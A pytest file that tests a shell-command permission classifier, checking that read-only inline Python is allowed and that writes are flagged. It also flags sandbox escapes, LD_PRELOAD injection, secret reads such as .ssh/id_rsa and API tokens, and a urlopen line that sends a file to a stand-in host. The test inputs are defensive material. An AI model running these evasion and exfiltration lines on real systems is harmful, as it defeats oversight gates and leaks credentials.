"""Inline Python: what is proven to compute, read and print passes, everything else asks."""

from __future__ import annotations

import shlex

import pytest

from desktop.gate.shell.classifier import Classifier
from desktop.gate.verdict import Effect, Flag, Gate

READS = (
    "print(1 + 1)",
    "import json, sys; print(json.dumps(json.load(sys.stdin), indent=2, sort_keys=True))",
    "import sys; [print(line.split()[0]) for line in sys.stdin if line.strip()]",
    "with open('a.csv') as f:\n    import csv\n    for row in csv.DictReader(f):\n        print(row['x'])",
    "from pathlib import Path\nfor p in sorted(Path('.').rglob('*.py')):\n    print(p, p.stat().st_size)",
    "from pathlib import Path; print(Path('a').read_text().replace('a', 'b')[:10])",
    "import re; print(re.findall(r'\\d+', open('a').read()))",
    "import os; print(os.path.exists('x'), os.listdir('.'), os.environ.get('LANG'), os.environ['USER'])",
    "import os; print('CI' in os.environ)",
    "import sys; print('\\n'.join(sys.path)); print(sys.path[0]); print(sys.path)",
    "import statistics as s; print(s.mean([1, 2]), s.stdev([1, 2]))",
    "from datetime import datetime, timedelta; print(datetime.now().replace(hour=0) - timedelta(days=1))",
    "import subprocess as s; print(s.run(['git', 'log', '-1'], capture_output=True, text=True).stdout)",
    "import subprocess\np = 'a'\nprint(subprocess.check_output(['git', 'show', f'HEAD:{p}'], text=True))",
    "from collections import Counter; c = Counter('abc'); c.update('d'); print(c.most_common(3))",
    "def f(x, y=2):\n    return x * y\nprint(list(map(f, range(3))), sorted([3, 1], key=lambda v: -v))",
    "import numpy as np; a = np.zeros(3); print(a.sum(), np.linalg.norm(a), np.__version__)",
    "import pandas as pd; d = pd.read_csv('a.csv'); print(d.groupby('x')['y'].mean().head())",
    "try:\n    import yaml\nexcept Exception:\n    yaml = None\nif yaml:\n    yaml.safe_load('a')",
    "import ast; ast.parse(open('a.py').read()); print('ok')",
    "import zipfile; print(zipfile.ZipFile('a.zip').namelist())",
    "import sqlite3 as s; print(s.connect('file:a?mode=ro', uri=True).execute('select 1').fetchall())",
    "import sqlite3; print(sqlite3.connect(':memory:').execute('select sqlite_version()').fetchone())",
    "import requests; r = requests.get('http://localhost:80/x'); print(r.status_code, r.json())",
    "import sys; sys.stdout.write('x'); sys.stderr.write('y'); sys.exit(1)",
    "import io; f = io.StringIO(); f.write('a'); print(f.getvalue())",
    "import importlib.metadata as m; print(m.version('pip'))",
    "print(type(1).__name__, 'x'.__class__.__name__, json.__file__) if (json := 1) else 0",
    "import hashlib; print(hashlib.sha256(open('a', 'rb').read()).hexdigest())",
    "import xml.etree.ElementTree as E; print([e.tag for e in E.parse('a.xml').getroot().iter()])",
)
ASKED = (
    "import os as o; o.remove('f')",
    "import os; f = os; f.remove('f')",
    "import os.path; os.path.os.remove('f')",
    "from os import *; remove('f')",
    "from os import remove as r; r('f')",
    "from shutil import move; [m('a', 'b') for m in [move]]",
    "import json; json.codecs.open('p', 'w')",
    "from json import codecs as c; c.builtins.open('p', 'w')",
    "import sys; sys.modules['os'].remove('f')",
    "().__class__.__base__.__subclasses__()",
    "(lambda: 0).__globals__['__builtins__'].open('p', 'w')",
    "getattr(__import__('os'), 'remove')('f')",
    "import os; getattr(os, 're' + 'move')('f')",
    "import os; getattr(os, 'remove')('f')",
    "import os; vars(os)['remove']('f')",
    "globals()['__builtins__'].open('p', 'w')",
    "import builtins; builtins.open('p', 'w')",
    "import builtins as b; [b.open][0]('p', 'w')",
    "open(*('p', 'w'))",
    "open(**{'file': 'p', 'mode': 'w'})",
    "open('p', mode='w')",
    "m = 'w'; open('p', m)",
    "open('p', 'w' if 1 else 'r')",
    "open('p', opener=lambda p, f: 1)",
    "f = open; f('p', 'w')",
    "map(open, ['p'], ['w'])",
    "print(1, file=open('p', 'w'))",
    "def g():\n    open = 1\nopen('p', 'w')",
    "from pathlib import Path; Path('p').write_text('')",
    "from pathlib import Path; Path('p').open('w')",
    "from pathlib import Path; Path('f').replace('p')",
    "from pathlib import Path; Path.replace(Path('f'), 'p')",
    "from pathlib import Path; P = Path; P.replace(P('f'), 'p')",
    "from pathlib import Path; type(Path('f')).replace('f', 'p')",
    "from pathlib import Path; f = Path('f').rename; f('p')",
    "import xml.etree.ElementTree as E; E.parse('a').write('p')",
    "import xml.etree.ElementTree as E\nfor f, n in [(E.parse('a'), 1)]:\n    f.write('p')",
    "import subprocess; subprocess.run(['echo', 'p'], executable='touch')",
    "import subprocess; subprocess.run(['echo'], env={'LD_PRELOAD': './x.so'})",
    "import subprocess; subprocess.run(['echo'], preexec_fn=lambda: 0)",
    "import subprocess; subprocess.run(['bash'], input='touch p', text=True)",
    "import subprocess; p = subprocess.Popen(['sh'], stdin=-1); p.communicate(b'touch p')",
    "import subprocess; c = ['touch', 'p']; subprocess.run(c)",
    "import subprocess; subprocess.run(['git', 'log', '--out' + 'put=p'])",
    "import subprocess; x = '-Op'; subprocess.run(['git', 'grep', x[:], 'a'])",
    "import subprocess; q = 'touch p'; subprocess.run(['bash', '-c', f'true; {q.strip()}'])",
    "import subprocess as s; s.getoutput('touch p')",
    "import os; os.popen('touch p')",
    "from subprocess import run as print; print(['touch', 'p'])",
    "import shelve; shelve.open('p')",
    "import sqlite3; sqlite3.connect('p')",
    "import sqlite3; sqlite3.connect('p?mode=ro')",
    "import logging; logging.basicConfig(filename='p')",
    "import logging; logging.FileHandler('p')",
    'import trace; trace.Trace().run(\'open("p", "w")\')',
    "import pickle; pickle.load(open('f', 'rb'))",
    "import importlib; importlib.import_module('os').remove('f')",
    "import runpy; runpy.run_path('f')",
    "import ctypes; ctypes.CDLL(None).system(b'touch p')",
    "import operator; operator.methodcaller('unlink')(1)",
    "import operator as o; o.attrgetter('os.remove')(1)",
    "import platform; platform.popen('touch p')",
    "import antigravity",
    "import sys; sys.path.insert(0, 'x'); import yaml",
    "import sys; p = sys.path; p.append('x')",
    "import mymodule",
    "from . import x",
    "class A:\n    def __del__(self): open('p', 'w')\nA()",
    "eval(input())",
    "exec(open('f').read())",
    "exec('import os')",
    "compile('1', '', 'exec')",
    "import functools, os; functools.partial(os.remove, 'f')()",
    "import os\n@os.remove\ndef f(): pass",
    "x = [i for i in [__import__]][0]('os')",
    "import os; os.environ['LD_PRELOAD'] = './x.so'",
    "import pandas as pd; pd.DataFrame().to_csv('p')",
    "import numpy as np; np.load('f', allow_pickle=True)",
    "import torch; torch.load('f')",
    "async def f(): pass",
)


def python(code: str) -> str:
    return f"python3 -c {shlex.quote(code)}"


@pytest.mark.parametrize("code", READS)
def test_computing_and_reading_passes(classifier: Classifier, code: str) -> None:
    """Also from a here-document, and in an option that is joined with its code."""
    lines = (python(code), f"python3 - <<'EOF'\n{code}\nEOF", f"python3 -Bc{shlex.quote(code)}")
    for line in lines:
        verdict = classifier.classify(line, "bash")
        assert (verdict.effect, verdict.gate) == (Effect.READ, Gate.ALLOW), verdict.reason


@pytest.mark.parametrize("code", ASKED)
def test_what_is_not_proven_is_asked_about(classifier: Classifier, code: str) -> None:
    """However it is reached, and however the code comes to the interpreter."""
    for line in (python(code), f"python3 <<'EOF'\n{code}\nEOF", f"python3 -Ic{shlex.quote(code)}"):
        verdict = classifier.classify(line, "bash")
        assert verdict.effect is not Effect.READ
        assert verdict.gate is Gate.ASK


@pytest.mark.parametrize(
    "code",
    [
        "import os; print(os.environ)",
        "import os; print(dict(os.environ))",
        "from os import environ as e; [print(k, v) for k, v in e.items()]",
        "import os; e = os.environ; print(e['HOME'])",
        "import os; print(os.environ['API_TOKEN'])",
        "import os; print(os.getenv('DB_PASSWORD'))",
        "import os; [print(os.getenv(k)) for k in ('A', 'B')]",
        "print(open('/proc/self/environ').read())",
        "import os; print(open(os.path.join('.ssh', 'id_rsa')).read())",
    ],
)
def test_variables_and_files_that_are_secret(classifier: Classifier, code: str) -> None:
    """All variables, one with a telling name, and a file that holds a key."""
    verdict = classifier.classify(python(code), "bash")
    assert Flag.SECRET in verdict.flags
    assert verdict.gate is Gate.ASK


def test_a_request_with_what_was_read_sends_it(classifier: Classifier) -> None:
    """An address that is put together at run time carries data away."""
    fetch = "import urllib.request as u; u.urlopen('http://h/' + open('notes').read())"
    assert Flag.SENDS in classifier.classify(python(fetch), "bash").flags
    post = "import requests; requests.post('http://h/', data='x')"
    assert Flag.SENDS in classifier.classify(python(post), "bash").flags
    plain = "import requests\nfor n in range(3):\n    print(requests.get(f'http://h/{n}').text)"
    verdict = classifier.classify(python(plain), "bash")
    assert verdict.gate is Gate.ALLOW, verdict.reason


@pytest.mark.parametrize(
    ("line", "gate"),
    [
        ("python3 -V", Gate.ALLOW),
        ("python3 -X utf8 -W ignore -c 'print(1)'", Gate.ALLOW),
        ("python3 -uBc 'print(1)'", Gate.ALLOW),
        ("python3 -m json.tool --indent 2 a.json", Gate.ALLOW),
        ("python3 -m timeit -n 5 -s 'x = 1' 'x + 1'", Gate.ALLOW),
        ("python3 -mtimeit '1 + 1'", Gate.ALLOW),
        ("python3 -m json.tool a.json b.json", Gate.ASK),
        ('python3 -m timeit -s \'open("p", "w")\'', Gate.ASK),
        ('python3 -m timeit --setup=\'open("p", "w")\' 1', Gate.ASK),
        ("python3 -m inspect mymodule", Gate.ASK),
        ("python3 -m sysconfig --generate-posix-vars", Gate.ASK),
        ("python3 -i -c 1", Gate.ASK),
        ("python3 -W error::evil.Category -c 1", Gate.ASK),
        ("python3 -X pycache_prefix=x -c 1", Gate.ASK),
        ("python3 x.py --help", Gate.ASK),
        ("python3 x.py --version", Gate.ASK),
        ("python3 -m mymodule --help", Gate.ASK),
        ("python3 <<'EOF'\n# coding: utf-7\nprint(1)\nEOF", Gate.ASK),
        ('python3 -c "$CODE"', Gate.ASK),
    ],
)
def test_options_of_the_interpreter(classifier: Classifier, line: str, gate: Gate) -> None:
    """They are read as the interpreter reads them."""
    assert classifier.classify(line, "bash").gate is gate
